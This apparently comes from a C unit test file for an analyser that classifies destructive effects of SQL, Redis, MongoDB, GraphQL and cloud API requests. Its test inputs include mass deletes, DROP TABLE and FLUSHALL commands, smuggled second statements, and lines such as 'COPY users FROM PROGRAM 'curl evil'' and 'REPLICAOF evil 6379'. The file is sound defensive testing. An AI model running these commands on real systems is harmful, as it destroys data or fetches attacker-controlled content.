/* SPDX-License-Identifier: BSD-2-Clause */
/* effects.c - what statements of each engine would do, and what GraphQL bodies would mutate. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/strbuf.h"
#include "effects/cloud_operations.h"
#include "effects/effects.h"
#include "subject/code/sql.h"

static const struct row {
	enum effect_engine engine;
	const char *text;
	const char *effects; /* as effect_put() writes them, parted by "; " */
} rows[] = {
#define PG EFFECT_POSTGRESQL
#define MY EFFECT_MYSQL
#define LITE EFFECT_SQLITE
#define ALL " (no condition)"
#define TRIVIAL " (a condition that is true of all)"
#define QUERIED " (a condition that another query decides)"
	/* conditions */
	{PG, "DELETE FROM users", "delete table users" ALL},
	{PG, "DELETE FROM users WHERE id = 3", "delete table users"},
	{PG, "DELETE FROM users WHERE true", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE 1=1", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE (1 = 1)", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE 'a' = 'a'", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE 1 = 0", "delete table users"},
	{PG, "DELETE FROM users WHERE false", "delete table users"},
	{PG, "DELETE FROM users WHERE id > 0", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE 0 <= u.id", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE id > -1", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE id < 0", "delete table users"},
	{PG, "DELETE FROM users WHERE id > 1000", "delete table users"},
	{PG, "DELETE FROM users WHERE id IS NOT NULL", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE id IS NULL", "delete table users"},
	{PG, "DELETE FROM users WHERE id = id", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE coalesce(id,1) = coalesce(id,1)", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE id <> 0 OR name = 'x'", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE id > 0 AND name = 'x'", "delete table users"},
	{PG, "DELETE FROM users WHERE id > 0 AND (true OR name = 'x')", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE name LIKE '%'", "delete table users" TRIVIAL},
	{PG, "DELETE FROM users WHERE name LIKE 'a%'", "delete table users"},
	{PG, "DELETE FROM users WHERE name NOT LIKE '%'", "delete table users"},
	{PG, "DELETE FROM users WHERE id = $1", "delete table users"},
	{PG, "DELETE FROM users WHERE $1", "delete table users"},
	{PG, "DELETE FROM users WHERE id = ANY($1)", "delete table users"},
	{PG, "DELETE FROM users WHERE id BETWEEN 1 AND 3", "delete table users"},
	{PG, "DELETE FROM users WHERE created_at < now() - interval '30 days'", "delete table users"},
	{PG, "DELETE FROM users WHERE id IN (SELECT id FROM old)", "delete table users" QUERIED},
	{PG, "DELETE FROM users WHERE id IN (SELECT id FROM old LIMIT 10)", "delete table users"},
	{PG, "DELETE FROM users WHERE org = (SELECT id FROM orgs LIMIT 1)", "delete table users" QUERIED},
	{PG, "DELETE FROM users WHERE EXISTS (SELECT 1)", "delete table users" QUERIED},
	{PG, "DELETE FROM users WHERE id = 3 AND org IN (SELECT id FROM orgs)", "delete table users"},
	{PG, "DELETE FROM users WHERE id > 0 AND org IN (SELECT id FROM orgs)", "delete table users" QUERIED},
	{PG, "DELETE FROM users USING orders WHERE users.id = orders.uid", "delete table users" QUERIED},
	{PG, "DELETE FROM c WHERE CURRENT OF cur", "delete table c"},
	{MY, "DELETE FROM users LIMIT 10", "delete table users"},
	{MY, "DELETE FROM users WHERE id = %s", "delete table users"},
	{MY, "DELETE u FROM users u JOIN old o ON u.id = o.id", "delete table users" ALL},
	{MY, "delete quick from `Sh``op`.users where 1", "delete table Sh`op.users" TRIVIAL},
	{MY, "DELETE FROM users WHERE id = %(id)s AND a % (3) = 1", "delete table users"},
	{LITE, "UPDATE OR IGNORE [t x] SET a = 1", "update table t x" ALL},
	{PG, "UPDATE users u SET admin = true FROM x WHERE u.id = x.id RETURNING *", "update table users" QUERIED},
	{PG, "UPDATE users SET name = 'where id = 3'", "update table users" ALL},
	/* where a statement can hide */
	{PG, "DELETE FROM ONLY \"We\"\"ird\".users RETURNING *", "delete table We\"ird.users" ALL},
	{PG, "DELETE/* x */FROM/**/users/*';*/--", "delete table users" ALL},
	{PG, "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", "delete table users" ALL},
	{PG, "WITH d AS MATERIALIZED (DELETE FROM users WHERE id = 1 RETURNING *) SELECT 1 FROM d WHERE true",
	 "delete table users"},
	{PG, "WITH x AS (INSERT INTO a SELECT 1 RETURNING *) DELETE FROM b", "delete table b" ALL},
	{PG, "INSERT INTO log SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) x",
	 "delete table users" ALL},
	{PG, "SELECT 1; DROP TABLE users", "drop table users"},
	{PG, "select 'DROP TABLE users; DELETE FROM users'", ""},
	{PG, "SELECT E'\\'; DROP TABLE users; --'", ""},
	{PG, "SELECT U&'d'; DELETE FROM U&\"us\\0065rs\"", "delete table users" ALL},
	{PG, "EXPLAIN DELETE FROM users", ""},
	{PG, "EXPLAIN ANALYZE DELETE FROM users", "delete table users" ALL},
	{PG, "EXPLAIN (ANALYZE false) DELETE FROM users", ""},
	{PG, "EXPLAIN (COSTS, ANALYZE) DELETE FROM users", "delete table users" ALL},
	{PG, "PREPARE p AS DELETE FROM users", "delete table users" ALL},
	{PG, "CREATE TABLE x AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "delete table users" ALL},
	{PG, "COPY (DELETE FROM users RETURNING *) TO STDOUT", "delete table users" ALL},
	{PG, "COPY users FROM PROGRAM 'curl evil'", "eval program"},
	{PG, "DO $$ BEGIN DELETE FROM users; IF true THEN TRUNCATE a; END IF; EXECUTE 'DROP TABLE ' || b; END $$",
	 "delete table users" ALL "; truncate table a; drop table"},
	{PG, "DO LANGUAGE plpython3u $$ plpy.execute(\"DELETE FROM users\") $$", "unknown"},
	{PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "delete table t"},
	{PG, "MERGE INTO t USING s ON true WHEN MATCHED AND x > 3 THEN UPDATE SET x = 0", "update table t" TRIVIAL},
	{PG, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$", ""},
	{PG, "CREATE TRIGGER x BEFORE DELETE ON t EXECUTE FUNCTION f()", ""},
	/* A body has its own delimiters; behind it is another statement. */
	{MY,
	 "CREATE PROCEDURE p() BEGIN DELETE FROM t; IF a THEN DROP TABLE u; END IF; SELECT CASE 1 WHEN 1 THEN 2 END; END",
	 ""},
	{MY,
	 "CREATE TRIGGER x BEFORE DELETE ON t FOR EACH ROW BEGIN CASE 1 WHEN 1 THEN DELETE FROM u; END CASE; END; DROP TABLE v",
	 "drop table v"},
	{MY, "CREATE PROCEDURE begin() DELETE FROM t; DROP TABLE u", "drop table u"},
	{MY, "CREATE PROCEDURE p() BEGIN DELETE FROM t; DROP TABLE u", "drop table u"},
	{MY, "CREATE TRIGGER x BEFORE DELETE ON begin FOR EACH ROW SET @a = 1; DROP TABLE u; SELECT 1 end",
	 "drop table u"},
	{PG, "CREATE FUNCTION f() RETURNS void BEGIN ATOMIC DELETE FROM t; END; DROP TABLE u", "drop table u"},
	{PG, "CREATE FUNCTION begin() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$; DROP TABLE u; SELECT 1 AS end",
	 "drop table u"},
	{LITE, "CREATE TRIGGER x AFTER DELETE ON t BEGIN DELETE FROM u; UPDATE v SET a = 1; END; DROP TABLE w",
	 "drop table w"},
	{PG, "CREATE TABLE t (a int REFERENCES b ON DELETE CASCADE ON UPDATE SET NULL)", ""},
	{PG, "SELECT * FROM t FOR UPDATE", ""},
	{PG, "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1", ""},
	{MY, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = 1", ""},
	{MY, "/*!40000 DROP TABLE a */", "drop table a"},
	{MY, "PREPARE s FROM 'DROP TABLE a'", "drop table a"},
	{MY, "BEGIN NOT ATOMIC DROP TABLE a; END", "drop table a"},
	{MY, "ANALYZE DELETE FROM t", "delete table t" ALL},
	/* objects */
	{PG, "DROP TABLE IF EXISTS a, b.c CASCADE", "drop table a; drop table b.c"},
	{PG, "DROP SCHEMA public CASCADE", "drop schema public"},
	{PG, "DROP OWNED BY app", "drop owned"},
	{PG, "DROP INDEX CONCURRENTLY i", "drop index i"},
	{PG, "DROP MATERIALIZED VIEW mv", "drop view mv"},
	{PG, "DROP USER MAPPING FOR u SERVER s", "drop user for"},
	{PG, "TRUNCATE a, ONLY b RESTART IDENTITY CASCADE", "truncate table a; truncate table b"},
	{PG, "SELECT truncate(1.5, 0)", ""},
	{PG, "ALTER TABLE t DROP COLUMN c CASCADE, ADD d int", "alter table t; drop column t.c"},
	{PG, "ALTER TABLE t ADD COLUMN d int", "alter table t"},
	{PG, "ALTER TABLE t ALTER c DROP NOT NULL", "alter table t"},
	{PG, "ALTER TABLE t DROP CONSTRAINT k", "alter table t; drop constraint t.k"},
	{MY, "alter table t drop partition p0", "alter table t; drop partition t.p0"},
	{MY, "alter table t truncate partition p0", "alter table t; truncate partition t.p0"},
	{PG, "ALTER SYSTEM SET fsync = off", "config setting"},
	{PG, "GRANT ALL ON TABLE a TO PUBLIC", "grant table a"},
	{PG, "REVOKE DELETE ON users FROM bob", "revoke table users"},
	{MY, "SET GLOBAL read_only = 1", "config setting"},
	{MY, "SET x = 1", ""},
	{MY, "RESET MASTER", "flush log"},
	{MY, "SHUTDOWN", "shutdown server"},
	{PG, "SELECT pg_terminate_backend(3)", "shutdown session"},
	/* Redis */
	{EFFECT_REDIS, "FLUSHALL ASYNC", "flush database"},
	{EFFECT_REDIS, "del a \"b c\"", "delete key a; delete key b c"},
	{EFFECT_REDIS, "GET flushall", ""},
	{EFFECT_REDIS, "CONFIG SET dir /tmp", "config setting dir"},
	{EFFECT_REDIS, "CONFIG GET dir", ""},
	{EFFECT_REDIS, "EVAL \"redis.call('flushall')\" 0", "eval script; flush database"},
	{EFFECT_REDIS, "SCRIPT FLUSH", "flush script"},
	{EFFECT_REDIS, "SHUTDOWN NOSAVE", "shutdown server"},
	{EFFECT_REDIS, "REPLICAOF NO ONE", ""},
	{EFFECT_REDIS, "REPLICAOF evil 6379", "flush database"},
	/* MongoDB */
	{EFFECT_MONGODB, "{\"delete\":\"users\",\"deletes\":[{\"q\":{},\"limit\":0}],\"$db\":\"shop\"}",
	 "delete collection users" ALL},
	{EFFECT_MONGODB, "{\"delete\":\"users\",\"deletes\":[{\"q\":{ },\"limit\":1}]}", "delete collection users"},
	{EFFECT_MONGODB, "{\"delete\":\"u\",\"deletes\":[{\"q\":{\"a\":5},\"limit\":0}]}", "delete collection u"},
	{EFFECT_MONGODB, "{\"delete\":\"u\",\"deletes\":[{\"limit\":0,\"q\":{\"_id\":{\"$exists\":true}}}]}",
	 "delete collection u" TRIVIAL},
	{EFFECT_MONGODB, "{\"update\":\"u\",\"updates\":[{\"q\":{},\"u\":{\"$set\":{\"a\":1}},\"multi\":true}]}",
	 "update collection u" ALL},
	{EFFECT_MONGODB, "{\"drop\":\"users\"}", "drop collection users"},
	{EFFECT_MONGODB, "{\"dropDatabase\":1,\"$db\":\"shop\"}", "drop database"},
	{EFFECT_MONGODB, "{\"find\":\"drop\",\"filter\":{\"dropDatabase\":1}}", ""},
	{EFFECT_MONGODB, "{\"aggregate\":\"a\",\"pipeline\":[{\"$out\":\"b\"}]}", "truncate collection"},
	{EFFECT_MONGODB, "{\"delete\":", ""},
};

static void put_effects(struct strbuf *b, enum effect_engine engine, const char *statement)
{
	struct effects e = {0};
	assert_int_equal(effects_of_statement(engine, statement, &e), 0);
	for (size_t i = 0; i < e.n; i++) {
		if (b->len)
			strbuf_puts(b, "; ");
		effect_put(b, &e.v[i]);
	}
	effects_free(&e);
}

static enum effect_engine of_row;

static int each_part(const struct sql_part *p, void *data)
{
	if (p->kind == SQL_STATEMENT)
		put_effects(data, of_row, p->blanked);
	return 0;
}

static void test_effects(void **state)
{
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		cleanup_strbuf struct strbuf b = {0};
		of_row = rows[i].engine;
		if (of_row >= EFFECT_REDIS)
			put_effects(&b, of_row, rows[i].text);
		else
			assert_int_equal(sql_statements((enum sql_dialect)of_row, rows[i].text, strlen(rows[i].text),
							each_part, &b),
					 0);
		if (strcmp(b.s ? b.s : "", rows[i].effects))
			fail_msg("%s: %s, not %s", rows[i].text, b.s ? b.s : "", rows[i].effects);
		if (of_row == EFFECT_REDIS)
			assert_false(b.len && effects_redis_is_harmless(rows[i].text, strcspn(rows[i].text, " ")));
	}
}

/* A statement with more effects than anybody looks through is unknown, and none takes long. */
static void test_limits(void **state)
{
	cleanup_strbuf struct strbuf many = {0}, deep = {0}, shown = {0};
	for (int i = 0; i < 20000; i++) {
		strbuf_puts(&many, "(delete from a)");
		strbuf_puts(&deep, i ? "(" : "delete from a where (");
	}
	put_effects(&shown, EFFECT_POSTGRESQL, many.s);
	assert_non_null(strstr(shown.s, "; unknown"));
	shown.len = 0;
	put_effects(&shown, EFFECT_POSTGRESQL, deep.s);
	assert_string_equal(shown.s, "delete table a" TRIVIAL);
}

static const struct {
	const char *body, *operations;
} bodies[] = {
	{"{\"query\":\"mutation { deleteUser(id: 3) { id } }\"}", "deleteUser "},
	{"{\"query\":\"mutation X($a: Int = 3) @d(x: {y: 1}) { a: deleteUser(id: $a) { id name } purge }\"}",
	 "deleteUser purge "},
	{"{\"query\":\"query { deleteUser }\"}", ""},
	{"{\"query\":\"{ a(s: \\\"mutation { x }\\\") { b } }\"}", ""},
	{"{\"query\":\"# mutation { a }\\nquery { b }\\nmutation { c }\"}", "c "},
	{"{\"query\":\"mut\\u0061tion { wipe }\"}", "wipe "},
	{"[{\"query\":\"{ a }\"},{\"query\":\"mutation { b }\"}]", "b "},
	{"mutation { a ... on Mutation { b } ...F c } fragment F on Mutation { d }", "a b c d "},
	{"{\"operationName\":\"DeleteAll\",\"extensions\":{\"persistedQuery\":{}}}", "DeleteAll "},
	{"not json", ""},
	{"{\"query\":", ""},
};

static void test_graphql(void **state)
{
	for (size_t i = 0; i < sizeof bodies / sizeof *bodies; i++) {
		cleanup_strbuf struct strbuf b = {0};
		effects_graphql_operations(bodies[i].body, strlen(bodies[i].body), &b);
		for (size_t k = 0; k < b.len; k++)
			b.s[k] = b.s[k] == '\n' ? ' ' : b.s[k];
		if (strcmp(b.s ? b.s : "", bodies[i].operations))
			fail_msg("%s: %s", bodies[i].body, b.s ? b.s : "");
	}
}

static void test_body(void **state)
{
	assert_true(effects_body_has("{\"all\":true}", 12, "\"all\":true"));
	assert_true(effects_body_has("DELE\\u0054E", 11, "delete"));
	assert_false(effects_body_has("DELE", 4, "delete"));
	assert_false(effects_body_has(NULL, 0, "a"));
	assert_true(effects_redis_is_harmless("GETSET", 3));
	assert_false(effects_redis_is_harmless("flushAll", 8));
}

static void test_cloud_operations(void **state)
{
	static const struct {
		struct cloud_call call;
		const char *operation;
	} calls[] = {
		{{.host = "s3.eu-west-1.amazonaws.com", .method = "GET", .target = "/"}, "s3:ListBuckets\n"},
		{{.host = "s3.eu-west-1.amazonaws.com", .method = "GET", .target = "/b?list-type=2"},
		 "s3:ListObjects\n"},
		{{.host = "s3.eu-west-1.amazonaws.com", .method = "DELETE", .target = "/b/"}, "s3:DeleteBucket\n"},
		{{.host = "b.s3.eu-west-1.amazonaws.com", .method = "DELETE", .target = "/"}, "s3:DeleteBucket\n"},
		{{.host = "b.s3.eu-west-1.amazonaws.com", .method = "DELETE", .target = "/k"}, "s3:DeleteObject\n"},
		{{.service = "s3", .method = "DELETE", .target = "/b/k?versionId=1"}, "s3:DeleteObjectVersion\n"},
		{{.service = "s3", .method = "POST", .target = "/b?delete"}, "s3:DeleteObjects\n"},
		{{.service = "s3", .method = "PUT", .target = "/b/k?partNumber=1&uploadId=x"}, "s3:UploadPart\n"},
		{{.service = "s3", .method = "PUT", .target = "/b?object-lock"}, "s3:PutBucketObjectLock\n"},
		{{.service = "s3", .method = "PUT", .target = "/api/v1/namespaces"}, "s3:PutObject\n"},
		{{.host = "ec2.eu-west-1.amazonaws.com",
		  .method = "POST",
		  .target = "/",
		  .body = "A=b&Action=TerminateInstances",
		  .len = 29},
		 "ec2:TerminateInstances\n"},
		{{.host = "iam.amazonaws.com", .method = "GET", .target = "/?Action=DeleteUser"}, "iam:DeleteUser\n"},
		{{.host = "api.ecr.eu-west-1.amazonaws.com",
		  .method = "POST",
		  .target = "/",
		  .action = "X_1.DeleteRepository"},
		 "ecr:DeleteRepository\n"},
		{{.service = "lambda", .method = "DELETE", .target = "/f"}, "lambda:DELETE\n"},
		{{.service = "s3", .host = "b.s3.eu-west-1.amazonaws.com", .method = "DELETE", .target = "/k"},
		 "s3:DeleteObject\n"},
		{{.host = "amazonaws.com.example.com", .method = "POST", .target = "/?Action=DeleteUser"}, ""},
		{{.method = "GET", .target = "/api/v1/namespaces/a/pods"}, "k8s:list:pods\n"},
		{{.method = "DELETE", .target = "/api/v1/namespaces/a/pods?x=y"}, "k8s:deletecollection:pods\n"},
		{{.method = "DELETE", .target = "/api/v1/namespaces/a"}, "k8s:delete:namespaces\n"},
		{{.method = "PUT", .target = "/api/v1/namespaces/a/finalize"}, "k8s:update:namespaces/finalize\n"},
		{{.method = "PATCH", .target = "/apis/apps/v1/namespaces/a/deployments/b/scale"},
		 "k8s:patch:deployments/scale\n"},
		{{.method = "POST", .target = "/k/c/api/v1/namespaces/a/pods/p/exec"}, "k8s:create:pods/exec\n"},
		{{.method = "DELETE", .target = "/apis/x"}, ""},
		{{.method = "DELETE", .target = "/v1/users"}, ""},
	};
	for (size_t i = 0; i < sizeof calls / sizeof *calls; i++) {
		struct strbuf b = {0};
		cloud_operation(&calls[i].call, &b);
		assert_string_equal(b.s ? b.s : "", calls[i].operation);
		strbuf_free(&b);
	}
}

/* How the rows of a statement can be counted, of which table, and the columns that choose one row. */
static const struct {
	const char *statement;
	enum effect_count way;
	const char *object, *keys;
} counted[] = {
	{"DELETE FROM shop.users", EFFECT_COUNT_TRY, "shop.users", ""},
	{"DELETE FROM users WHERE id = 5", EFFECT_COUNT_TRY, "users", "id "},
	{"DELETE FROM ONLY users AS u WHERE u.id = $1::bigint AND name = '' RETURNING *", EFFECT_COUNT_TRY, "users",
	 "id name "},
	{"UPDATE \"Users\" SET a = 1 WHERE \"Users\".\"Id\" = 5", EFFECT_COUNT_TRY, "Users", "Id "},
	{"UPDATE users SET a = lower(b) WHERE id = 5", EFFECT_COUNT_TRY, "users", "id "},
	{"UPDATE users SET a = DEFAULT WHERE id = 5", EFFECT_COUNT_ESTIMATE, "users", "id "},
	{"UPDATE users SET a = nextval('') WHERE id = 5", EFFECT_COUNT_ESTIMATE, "users", "id "},
	{"DELETE FROM users WHERE public.lower(a) = ''", EFFECT_COUNT_ESTIMATE, "users", ""},
	{"DELETE FROM users WHERE id = 5 OR true", EFFECT_COUNT_TRY, "users", ""},
	{"DELETE FROM users WHERE id = 5 + a", EFFECT_COUNT_TRY, "users", ""},
	{"DELETE FROM users WHERE id IN (1, 2)", EFFECT_COUNT_TRY, "users", ""},
	{"DELETE FROM users WHERE id = 5 AND a BETWEEN 1 AND 3", EFFECT_COUNT_TRY, "users", ""},
	{"DELETE FROM users USING gone WHERE gone.id = 5", EFFECT_COUNT_TRY, "users", ""},
	{"UPDATE users SET a = g.a FROM gone g WHERE g.id = 5", EFFECT_COUNT_TRY, "users", ""},
	{"WITH x AS (SELECT 1) DELETE FROM users WHERE id = 5", EFFECT_COUNT_TRY, "users", ""},
	{"WITH x AS (INSERT INTO log SELECT 1) DELETE FROM users", EFFECT_COUNT_ESTIMATE, "users", ""},
	{"WITH x AS (DELETE FROM a), y AS (DELETE FROM b) SELECT 1", EFFECT_COUNT_NONE, NULL, ""},
	{"DELETE FROM users; COMMIT", EFFECT_COUNT_NONE, NULL, ""},
	{"DELETE FROM users WHERE CURRENT OF c", EFFECT_COUNT_NONE, NULL, ""},
	{"EXPLAIN ANALYZE DELETE FROM users", EFFECT_COUNT_NONE, NULL, ""},
	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", EFFECT_COUNT_NONE, NULL, ""},
	{"SELECT 1", EFFECT_COUNT_NONE, NULL, ""},
};

static void test_count(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof counted / sizeof *counted; i++) {
		cleanup_strbuf struct strbuf keys = {0};
		struct effect only = {0};
		const char *s = counted[i].statement;
		enum effect_count way = effect_count(EFFECT_POSTGRESQL, s, &only);
		effect_put_keys(EFFECT_POSTGRESQL, s, &keys);
		for (size_t k = 0; k < keys.len; k++)
			keys.s[k] = keys.s[k] == '\n' ? ' ' : keys.s[k];
		if (way != counted[i].way ||
		    strcmp(only.object ? only.object : "", counted[i].object ? counted[i].object : "") ||
		    strcmp(keys.s ? keys.s : "", counted[i].keys))
			fail_msg("%s: %d %s %s", s, way, only.object ? only.object : "", keys.s ? keys.s : "");
		free(only.object);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_effects), cmocka_unit_test(test_limits),
					   cmocka_unit_test(test_graphql), cmocka_unit_test(test_cloud_operations),
					   cmocka_unit_test(test_body),    cmocka_unit_test(test_count)};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
